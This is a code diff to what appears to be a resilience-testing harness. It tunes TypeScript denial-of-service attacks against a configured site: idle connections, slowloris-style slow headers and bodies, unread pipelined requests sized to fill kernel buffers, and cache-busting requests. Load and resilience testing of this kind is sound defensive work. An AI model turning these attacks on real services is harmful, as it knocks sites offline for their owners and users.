@@ -21,11 +21,11 @@ const GET = `GET /products HTTP/1.1\r\nHost: ${SITE}\r\n`;
 
 /** Connections that send nothing. */
 const idleConnections: Attack = (context) =>
-  keepOpen(context, IDLE_CONNECTIONS, (socket) => untilClosed(socket, context));
+  keepOpen(context, { connections: IDLE_CONNECTIONS }, (socket) => untilClosed(socket, context));
 
 /** Requests whose headers come a byte a second and never end. */
 const slowHeaders: Attack = (context) =>
-  keepOpen(context, CONNECTIONS, (socket) => {
+  keepOpen(context, { connections: CONNECTIONS }, (socket) => {
     context.counts.sent += 1;
     socket.write(`${GET}X-Slow: `);
     return untilClosed(socket, context, () => socket.write('a'));
@@ -33,7 +33,7 @@ const slowHeaders: Attack = (context) =>
 
 /** Requests whose body comes a byte a second and never ends. */
 const slowBodies: Attack = (context) =>
-  keepOpen(context, CONNECTIONS, (socket) => {
+  keepOpen(context, { connections: CONNECTIONS }, (socket) => {
     context.counts.sent += 1;
     socket.write(
       `POST /api/beacons HTTP/1.1\r\nHost: ${SITE}\r\nContent-Type: text/plain\r\nContent-Length: 100\r\n\r\n`,
@@ -41,11 +41,15 @@ const slowBodies: Attack = (context) =>
     return untilClosed(socket, context, () => socket.write('a'));
   });
 
-/** Requests one after the other on a connection, enough to fill every buffer on the way with responses that are never read. */
-const PIPELINED = 40;
+/**
+ * Requests one after the other on a connection, whose responses are never read: with the small buffers of the attacker's host (container.ts), about ten
+ * fill the kernels on both sides. More connections, or all at once, and the limit of requests refuses them before one is full.
+ */
+const PIPELINED = 16;
+const UNREAD = { connections: 120, apartMs: 66 };
 
 const slowReaders: Attack = (context) =>
-  keepOpen(context, CONNECTIONS, (socket) => {
+  keepOpen(context, UNREAD, (socket) => {
     context.counts.sent += PIPELINED;
     socket.write(`${GET}\r\n`.repeat(PIPELINED));
     socket.pause();
@@ -154,7 +158,7 @@ const connectionRate: Attack = async (context) => {
 /** Pages under addresses that nobody has asked for: each is fetched from the origin. */
 const cacheBusting: Attack = async (context) => {
   const { counts, signal } = context;
-  await keepOpen(context, WORKERS, async (socket) => {
+  await keepOpen(context, { connections: WORKERS }, async (socket) => {
     while (!signal.aborted && !socket.destroyed) {
       counts.sent += 1;
       const path = `/products?page=1&bust=${String(Math.random()).slice(2)}`;
